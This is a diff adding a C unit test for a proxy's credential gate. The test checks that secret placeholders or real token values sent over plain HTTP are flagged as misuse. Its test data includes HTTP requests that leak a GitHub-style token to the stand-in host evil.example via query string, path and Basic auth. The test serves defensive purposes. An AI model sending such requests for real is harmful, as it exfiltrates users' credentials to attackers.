@@ -179,6 +179,31 @@ static void test_which_connections(void **state)
 	assert_null(d);
 }
 
+/* issue 33: plain HTTP is never a swap target: a placeholder or value anywhere in a head, to any host */
+static void test_credentials(void **state)
+{
+	(void)state;
+	char *hosts[] = { "api.github.com" };
+	struct sk_secret sec = { .name = "github", .placeholder = "stockade-secret-github", .hosts = hosts, .n_hosts = 1 };
+	struct sk_policy p = { .secrets = &sec, .n_secrets = 1 };
+	const struct sk_secret_value val = { "ghp_realVALUE0123456789", 23 };
+	const char *bad[] = {
+		"GET / HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: Bearer stockade-secret-github\r\n\r\n",
+		"GET /x?t=STOCKADE-SECRET-GITHUB HTTP/1.1\r\nHost: evil.example\r\n\r\n",
+		"GET / HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Basic eDpzdG9ja2FkZS1zZWNyZXQtZ2l0aHVi\r\n\r\n",
+	};
+	for (size_t i = 0; i < 3; i++)
+		assert_string_equal(sk_req_gate_credentials(&p, NULL, (const uint8_t *)bad[i], strlen(bad[i])),
+				    "credential_misuse");
+	const char *v = "GET /ghp_realVALUE0123456789 HTTP/1.1\r\nHost: evil.example\r\n\r\n";
+	assert_null(sk_req_gate_credentials(&p, NULL, (const uint8_t *)v, strlen(v)));
+	assert_string_equal(sk_req_gate_credentials(&p, &val, (const uint8_t *)v, strlen(v)), "credential_misuse");
+	const char *ok = "GET /repos HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: Bearer other\r\n\r\n";
+	assert_null(sk_req_gate_credentials(&p, &val, (const uint8_t *)ok, strlen(ok)));
+	p.n_secrets = 0;
+	assert_null(sk_req_gate_credentials(&p, NULL, (const uint8_t *)bad[0], strlen(bad[0])));
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -187,6 +212,7 @@ int main(void)
 		cmocka_unit_test(test_refused_paths),
 		cmocka_unit_test(test_methods),
 		cmocka_unit_test(test_which_connections),
+		cmocka_unit_test(test_credentials),
 	};
 	return cmocka_run_group_tests(tests, setup, teardown);
 }
